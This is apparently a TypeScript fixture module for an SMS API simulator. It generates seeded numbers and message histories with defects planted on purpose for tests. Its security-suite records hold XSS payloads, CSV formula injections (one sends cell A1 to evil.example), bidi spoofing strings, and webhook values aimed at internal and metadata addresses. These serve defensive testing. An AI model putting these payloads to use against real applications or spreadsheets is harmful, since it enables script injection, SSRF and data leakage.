import { DESK_CASE_COUNT, DESK_INDEX, deskSlot } from './desk-cases.ts'
import { alphaTid, apiDate, hash32, hex32, mix, rng } from './rng.ts'

/**
 * The simulator's seeded dataset. Numbers are generated once per account; history
 * records are generated from their index, so a page of a 1,000,000-message history
 * costs what a page of a small one costs (no history is ever materialised).
 */

export interface OwnedNumber {
  number: string
  tid: string
  type: 'local' | 'tollfree'
  country: string
  webhook: string
  dlr: string
}

export interface NumberProfile extends OwnedNumber {
  index: number
  baseTotal: number
  kind: 'normal' | 'hostile'
  createdMs: number
  /** Scripted support-desk records at the end of the history (desk-cases.ts); 0 for most numbers. */
  deskCases: number
  /** When the history's newest generated message was sent (messages added later come after it). */
  endMs: number
  /** A second line of the same number (quirks.ts twoHistories): its messages are its own. */
  line?: string
}

const twins = new WeakMap<NumberProfile, NumberProfile>()

/** The second line of a number (same number, its own tid and history of `size` messages). */
export function twinOf(profile: NumberProfile, tid: string, size: number): NumberProfile {
  let twin = twins.get(profile)
  if (!twin || twin.tid !== tid || twin.baseTotal !== size) {
    twin = { ...profile, tid, line: tid, index: profile.index + 100_000, baseTotal: size, deskCases: 0, kind: 'normal' }
    twins.set(profile, twin)
  }
  return twin
}

export const GOOD_WEBHOOK = 'https://hooks.switchboard-demo.example/sms/inbound'
export const GOOD_DLR = 'https://hooks.switchboard-demo.example/sms/dlr'

/** Seeded defects by index, so tests can name the number that carries each one. */
const DEFECTS: Record<number, Partial<Pick<OwnedNumber, 'webhook' | 'dlr'>>> = {
  1: { webhook: '' },
  2: { dlr: '' },
  3: { webhook: 'http://hooks.switchboard-demo.example/sms/inbound' },
  4: { dlr: 'https://192.168.1.20/dlr' },
  5: { webhook: 'not a url' },
  6: { dlr: GOOD_WEBHOOK },
  7: { webhook: 'https://other-hooks.example.net/inbound' },
  8: { webhook: 'http://localhost:8080/hook', dlr: 'https://printer.local/dlr' },
  9: { dlr: 'https://10.0.0.5/dlr' },
  10: { webhook: 'https://169.254.169.254/latest' },
  11: { webhook: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
  12: { dlr: '' },
  17: { dlr: '' },
  23: { dlr: '' },
  31: { dlr: 'http://hooks.switchboard-demo.example/sms/dlr' },
  44: { dlr: '' },
}

/** History sizes by number index: 0, 1, a few dozen, hundreds, thousands and a million. */
const HISTORY_SIZES: Record<number, number> = { 0: 2345, 1: 0, 2: 1, 3: 36, 4: 420, 5: 5000, 6: 1_000_000, 7: 24 }

export const HOSTILE_INDEX = 7
/**
 * The fixed end of the history that tests and benches see, so their figures stay exact. The
 * server on its embedded simulator passes its own (the day it first started), so a newcomer's
 * history runs up to their present instead of ending weeks before it.
 */
export const END_MS = Date.UTC(2026, 10, 20, 12, 0, 0)

function makeNumber(index: number, count: number, endMs = END_MS): NumberProfile {
  const r = rng(mix(index, 7))
  const tollfree = index % 4 === 3
  const country = tollfree ? 'US' : index % 5 === 2 ? 'CA' : 'US'
  let number: string
  if (index === 0) number = '18323232323'
  else if (tollfree)
    number = `1${['800', '833', '844', '855', '866', '877', '888'][index % 7]}${String(2000000 + Math.floor(r() * 7999999))}`
  else if (country === 'CA') number = `1${['416', '604', '514', '403'][index % 4]}${String(2000000 + Math.floor(r() * 7999999))}`
  else number = `1${['212', '415', '512', '617', '720', '832', '305'][index % 7]}${String(2000000 + Math.floor(r() * 7999999))}`
  // Some records carry 10 digits, no country code: the field notes say 10 or 11.
  if (index % 11 === 5 && count <= 100) number = number.slice(1)
  const defect = count <= 100 ? (DEFECTS[index] ?? {}) : {}
  const deskCases = index === DESK_INDEX && count <= 100 ? DESK_CASE_COUNT : 0
  const size = (HISTORY_SIZES[index] ?? Math.floor(r() * 180)) + deskCases
  return {
    index,
    number,
    tid: alphaTid(mix(index, 99)),
    type: tollfree ? 'tollfree' : 'local',
    country,
    webhook: defect.webhook ?? GOOD_WEBHOOK,
    dlr: defect.dlr ?? GOOD_DLR,
    // The first numbers carry the named history sizes in every account (benchmarks page the 10,000-number one).
    baseTotal: size,
    kind: index === HOSTILE_INDEX && count <= 100 ? 'hostile' : 'normal',
    createdMs: Date.UTC(2019, 0, 1) + Math.floor(r() * 4 * 365) * 86_400_000,
    deskCases,
    endMs,
  }
}

export interface Account {
  sysId: string
  authToken: string
  numbers: NumberProfile[]
  byNumber: Map<string, NumberProfile>
}

export function makeAccount(sysId: string, authToken: string, count: number, endMs = END_MS): Account {
  const numbers = Array.from({ length: count }, (_, i) => makeNumber(i, count, endMs))
  return { sysId, authToken, numbers, byNumber: new Map(numbers.map((n) => [n.number, n])) }
}

/**
 * An account of `count` numbers that each hold `perNumber` messages: several large histories for
 * the scale bench (`SIM_SCALE=10x1000000`). Its numbers carry no seeded defects or desk cases.
 */
export function makeScaleAccount(sysId: string, authToken: string, count: number, perNumber: number): Account {
  const numbers = Array.from({ length: count }, (_, i) => ({ ...makeNumber(1000 + i, 1000), baseTotal: perNumber }))
  return { sysId, authToken, numbers, byNumber: new Map(numbers.map((n) => [n.number, n])) }
}

export const DEMO_CREDENTIALS = { sysId: 'sim-demo', authToken: 'sim-demo-token-7f3a' }
export const LARGE_CREDENTIALS = { sysId: 'sim-large', authToken: 'sim-large-token-9c1d' }
export const SCALE_CREDENTIALS = { sysId: 'sim-scale', authToken: 'sim-scale-token-4e8b' }

export interface MessageRecord {
  system_id: number
  message_id: string
  GMTdate: string
  tid: string
  phone: string
  direction: string
  body: string
  mms: string
  mms_url: string
  status: string
}

const FULL_STATUS_200 = '200 [Possible status and meaning: 200 = success, 400 = error]'
const FULL_STATUS_400 = '400 [Possible status and meaning: 200 = success, 400 = error]'

const LONG_BODY = 'This is a long message that carriers split into several segments. '.repeat(26).slice(0, 1600)
/** What a business sends: confirmations, shipping notes, codes, reminders (never a customer's words). */
const OUTBOUND_BODIES = [
  'Your appointment is confirmed for Tuesday at 3pm. Reply C to cancel.',
  'Thanks! See you then 👍🏽',
  'שלום, ההזמנה מוכנה לאיסוף',
  'Line one\nLine two\n\nLine four after a blank line',
  'Order #4412 shipped. Track: https://track.example.com/4412',
  'Hi 👋 your code is 839201',
  'Your order is ready for pickup at the front desk.',
  'Reminder: your table for 2 is booked for 7pm tonight.',
]
/** What customers write. Opt-outs are not among them: they are placed, one per opted-out customer (optOutOf). */
const INBOUND_BODIES = [
  'مرحبا، هل طلبي جاهز؟',
  '<b>not bold</b> & <i>not italic</i> — just text',
  'Can you call me back? 📞',
  'ok',
  'Is the store open on Sunday?',
  'Thanks! See you then 👍🏽',
  'Do you have this in a larger size?',
]

const MEDIA = ['photo-1.png', 'photo-2.png', 'photo-3.png', 'card.vcf', 'clip.mp4', 'photo-4.png', 'invoice.pdf', 'missing.png']

const AREA_CODES = ['917', '646', '310', '469', '702']
const customerPhone = (r: () => number) => `1${AREA_CODES[Math.floor(r() * 5)]}${String(2000000 + Math.floor(r() * 7999999))}`

/**
 * Regular customers of the business as a whole: each texts several of its numbers (a shop's line
 * and its support line), so a customer's view across every number has something to show.
 */
export const SHARED_CUSTOMERS: readonly string[] = (() => {
  const r = rng(0x5eed_c0de)
  return Array.from({ length: 8 }, () => customerPhone(r))
})()

function partiesFor(profile: NumberProfile): string[] {
  const r = rng(mix(profile.index, 1234))
  const n = 3 + Math.floor(r() * 5)
  const parties = Array.from({ length: n }, () => customerPhone(r))
  // About two numbers in three share one of the regulars with others.
  if (r() < 0.66) parties[0] = SHARED_CUSTOMERS[profile.index % SHARED_CUSTOMERS.length]!
  return parties
}

/**
 * Whether (and where) a customer opted out of a number: about 2 in 100 customers, as real
 * accounts see, each with one STOP at a fixed place in the number's history. After it the
 * business never texts them again from that number (the only sends after opt-out in the demo
 * are the desk's scripted mistakes, desk-cases.ts, each one worth finding). The regulars never
 * opt out, so a customer's view across numbers stays about conversations. The place avoids
 * the dataset's own oddities: a skewed clock's earlier dates (every fifth), a reused id (every
 * 97th), media (every seventh from the third) and the long body (every 53rd).
 */
export function optOutOf(profile: Pick<NumberProfile, 'baseTotal' | 'deskCases'>, party: string): number | null {
  if (SHARED_CUSTOMERS.includes(party) || mix(hash32(party), 77) % 100 >= 2) return null
  const generated = profile.baseTotal - profile.deskCases
  if (generated < 20) return null
  let seq = 1 + Math.floor(generated * (0.3 + 0.6 * ((mix(hash32(party), 78) % 1000) / 1000)))
  while (seq % 5 === 0 || seq % 97 === 0 || seq % 7 === 3 || seq % 53 === 0) seq++
  return Math.min(seq, generated)
}

interface Parties {
  all: string[]
  /** Opted-out customers and the position of their STOP. */
  optOuts: Map<string, number>
  /** The position that is a STOP, and whose. */
  stopAt: Map<number, string>
}

function partiesOf(profile: NumberProfile): Parties {
  const key = `${profile.index}:${profile.number}:${profile.baseTotal}`
  let p = partyCache.get(key)
  if (!p) {
    const all = partiesFor(profile)
    const optOuts = new Map<string, number>()
    const stopAt = new Map<number, string>()
    for (const party of all) {
      const at = optOutOf(profile, party)
      if (at !== null && !stopAt.has(at)) {
        optOuts.set(party, at)
        stopAt.set(at, party)
      }
    }
    p = { all, optOuts, stopAt }
    partyCache.set(key, p)
  }
  return p
}

const partyCache = new Map<string, Parties>()

/** Messages are spaced a fixed step apart (wider for small histories, so threads span days); the newest sits at the profile's endMs plus any added ones. */
const STEP_MS = 47_000
const stepFor = (profile: NumberProfile) => (profile.baseTotal > 10_000 ? STEP_MS : 23 * 60_000 + 17_000)

/**
 * How many messages have arrived on a number since its history's end, by `now`: one a step, the
 * pace its history already has (a message every 23 minutes on most numbers, every 47 s on the
 * million-message one), so a running demo keeps receiving messages as a live account does.
 */
export function arrivedBy(profile: NumberProfile, now: number): number {
  return profile.baseTotal > 0 && now > profile.endMs ? Math.floor((now - profile.endMs) / stepFor(profile)) : 0
}

/**
 * The message with sequence number `seq` (1 = oldest) of a number. Pure: same inputs, same record.
 */
export function messageAt(
  profile: NumberProfile,
  seq: number,
  total: number,
  mediaBase: string,
  added: number,
  skew = false,
  /** An opt-in scenario's refusals (scenario.ts): an outbound message dated when this says is refused. */
  refuses?: (atMs: number) => boolean,
): MessageRecord {
  const parties = partiesOf(profile)
  const seed = hash32(profile.line === undefined ? profile.number : `${profile.number}/${profile.line}`)
  const h = mix(seed, seq)
  const r = rng(h)
  const step = stepFor(profile)
  const endMs = profile.endMs
  const newestMs = endMs + added * step
  const desk = profile.deskCases ? deskSlot(profile, seq, total, added, step, endMs) : null
  if (desk?.record) return desk.record
  // A skewed clock dates every fifth message about 100 s before the one three places below it.
  const when = (desk ? desk.when : newestMs - (total - seq) * step) - (skew && seq % 5 === 0 ? 3 * step + 100_000 : 0)
  const statusRoll = r()
  let status = statusRoll < 0.05 ? FULL_STATUS_400 : FULL_STATUS_200
  if (statusRoll > 0.6 && statusRoll < 0.7) status = '200'
  if (statusRoll > 0.7 && statusRoll < 0.75) status = '200 Delivered'
  if (profile.index === 3 && seq === 2) status = '503 Carrier busy'
  if (profile.index === 3 && seq === 3) status = 'pending'
  let phone = parties.all[Math.floor(r() * parties.all.length)] ?? parties.all[0] ?? '15550000000'
  let direction = r() < 0.55 ? 'outbound' : 'inbound'
  const bodies = direction === 'outbound' ? OUTBOUND_BODIES : INBOUND_BODIES
  let body: string = bodies[h % bodies.length] ?? ''
  if (seq % 53 === 0) body = LONG_BODY
  const stopper = parties.stopAt.get(seq)
  if (stopper !== undefined) {
    phone = stopper
    direction = 'inbound'
    body = seq % 2 ? 'STOP' : 'Stop'
  } else {
    // After their STOP, an opted-out customer is someone else's turn: the business does not text them.
    const stoppedAt = parties.optOuts.get(phone)
    if (stoppedAt !== undefined && seq > stoppedAt) {
      const other = parties.all.find((p) => !parties.optOuts.has(p))
      if (other) phone = other
      else direction = 'inbound' // every customer of the number opted out: only they write
    }
  }
  if (refuses && direction === 'outbound' && refuses(when)) status = FULL_STATUS_400
  const hasMedia = seq % 7 === 3
  const mediaName = MEDIA[Math.floor(seq / 7) % MEDIA.length] ?? 'photo-1.png'
  // Roughly one message in 97 reuses its neighbour's id: real pages do carry duplicates.
  const idSeq = seq % 97 === 0 ? seq - 1 : seq
  const msgTid = seq % 5 === 0 ? alphaTid(mix(profile.index, 555)) : profile.tid
  return {
    system_id: 200_000_000_000 + profile.index * 2_000_000 + seq,
    message_id: hex32(seed, idSeq),
    GMTdate: apiDate(when),
    tid: msgTid,
    phone,
    direction,
    body,
    mms: hasMedia ? 'yes' : 'no',
    mms_url: hasMedia ? `${mediaBase}/media/${mediaName}` : '',
    status,
  }
}

/** Hostile records for the security suite: everything a stranger can put in a message. */
export function hostileMessages(profile: NumberProfile, mediaBase: string): MessageRecord[] {
  const bodies: Array<[string, string]> = [
    ['<script>window.__pwned = 1</script>', ''],
    ['<img src=x onerror="window.__pwned = 2">', ''],
    ['<a href="javascript:window.__pwned=3">click me</a>', ''],
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', ''],
    ['+1+1', ''],
    ['-2+3', ''],
    ['@SUM(A1:A2)', ''],
    ['\t=1+1', ''],
    ['\r=1+1', ''],
    [' =1+1', ''],
    ['hello\n=1+1', ''],
    ['nul\u0000byte', ''],
    ['\u202Egnp.exe\u202C bidi override', ''],
    ['zero\u200Bwidth\u200Djoiner\uFEFF', ''],
    ['media: javascript', 'javascript:window.__pwned=4'],
    ['media: mixed case', 'JaVaScRiPt:window.__pwned=5'],
    ['media: control prefix', '\u0001javascript:window.__pwned=6'],
    ['media: data', 'data:text/html,<script>window.__pwned=7</script>'],
    ['media: vbscript', 'vbscript:msgbox(1)'],
    ['media: protocol-relative', '//evil.example/x.png'],
    ['media: malformed', 'https://[not-a-host/x.png'],
    ['media: safe image', `${mediaBase}/media/photo-1.png`],
    ['A'.repeat(1_000_000), ''],
    ['last hostile message', ''],
  ]
  const total = bodies.length
  return bodies.map(([body, url], i) => {
    const seq = total - i
    return {
      system_id: 200_000_000_000 + profile.index * 2_000_000 + seq,
      message_id: hex32(hash32(profile.number), seq),
      GMTdate: apiDate(profile.endMs - i * STEP_MS),
      tid: profile.tid,
      phone: '14155550123',
      direction: i % 2 ? 'inbound' : 'outbound',
      body,
      mms: url ? 'yes' : 'no',
      mms_url: url,
      status: i === 3 ? FULL_STATUS_400 : FULL_STATUS_200,
    }
  })
}
